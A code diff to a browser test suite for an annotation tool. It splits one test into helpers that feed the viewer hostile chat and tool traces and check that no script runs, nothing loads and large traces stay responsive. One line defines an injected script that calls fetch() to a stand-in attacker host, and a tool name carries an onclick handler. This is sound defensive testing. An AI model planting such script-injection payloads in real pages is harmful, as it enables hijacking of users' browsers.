@@ -1,6 +1,6 @@
 """Traces written to seize the annotator's browser: nothing runs, nothing is fetched."""
 
-from annotating import WIDGET, chat, label, open_page, serving_page
+from annotating import WIDGET, chat
 
 OUTSIDE = "https://evil.example"
 ATTACK = f"""window.seized = 1; fetch('{OUTSIDE}/x')"""
@@ -33,7 +33,7 @@ PRESSED = """async () => {
 
 
 def tools(text):
-    """The same text as a tool's arguments, result and name."""
+    """Make a session with the same text as a tool's arguments, result and name."""
     call = {"name": f"<b onclick=1>{text[:40]}", "arguments": text}
     return {
         "id": "t1",
@@ -46,36 +46,34 @@ def tools(text):
     }  # fmt: skip
 
 
-def test_hostile_traces_neither_run_nor_load_nor_stall(page, make_workspace):
+def make_hostile():
+    """Make chats of hostile answers, hostile tools, and answers of five million characters."""
     everything = "\n\n".join(HOSTILE)
     large = "".join(f"{line:07d} of many lines <b>\n" for line in range(LARGE // 25))
-    chats = [chat("s1", *HOSTILE, turns=1), tools(everything), chat("s2", large, large, turns=1)]
-    ws = make_workspace(chats)
-    with serving_page(ws) as (_, address):
-        open_page(page, address)
-        for session in ("s1", "t1", "s2"):
-            assert page.locator(WIDGET).get_attribute("data-session") == session
-            page.keyboard.press("o")  # everything folded is opened
-            page.wait_for_timeout(200)
-            assert page.evaluate("window.seized") is None
-            trace = page.locator(f"{WIDGET} .trace")
-            within = "script, img, svg, iframe, object, style, link, base, meta, form, textarea"
-            assert trace.locator(within).count() == 0
-            links = trace.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
-            assert all(link in (None, "#") or link.startswith("https://") for link in links)
-            handlers = "all => all.flatMap(e => e.getAttributeNames().filter(n => /^on/.test(n)))"
-            assert trace.locator("*").evaluate_all(handlers) == []
-            pressed, milliseconds = page.evaluate(PRESSED)
-            assert pressed == "true"
-            assert milliseconds < QUICK
-            if session == "s1":
-                assert "\u202e" not in trace.inner_text()
-                assert "\x1b" not in trace.inner_text()
-                assert "<script>" in trace.inner_text()  # shown as the text that it is
-            if session == "s2":
-                page.get_by_role("button", name="Read on").first.click()
-                page.wait_for_function(
-                    "document.querySelector('.trace').textContent.includes('0001000 of many')"
-                )
-            label(page, ("Enter",))
-    assert ws.ledger.bodies("label.set")["verdict"].to_list() == ["pass"] * 3
+    return [chat("h1", *HOSTILE, turns=1), tools(everything), chat("h2", large, large, turns=1)]
+
+
+def check_hostile(page, session):
+    """Open all of a hostile session, and press a key: nothing ran, nothing loaded, no wait."""
+    page.keyboard.press("o")  # everything folded is opened
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.seized") is None
+    trace = page.locator(f"{WIDGET} .trace")
+    within = "script, img, svg, iframe, object, style, link, base, meta, form, textarea"
+    assert trace.locator(within).count() == 0
+    links = trace.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
+    assert all(link in (None, "#") or link.startswith("https://") for link in links)
+    handlers = "all => all.flatMap(e => e.getAttributeNames().filter(n => /^on/.test(n)))"
+    assert trace.locator("*").evaluate_all(handlers) == []
+    pressed, milliseconds = page.evaluate(PRESSED)
+    assert pressed == "true"
+    assert milliseconds < QUICK
+    if session == "h1":
+        assert "\u202e" not in trace.inner_text()
+        assert "\x1b" not in trace.inner_text()
+        assert "<script>" in trace.inner_text()  # shown as the text that it is
+    if session == "h2":
+        page.get_by_role("button", name="Read on").first.click()
+        page.wait_for_function(
+            "document.querySelector('.trace').textContent.includes('0001000 of many')"
+        )
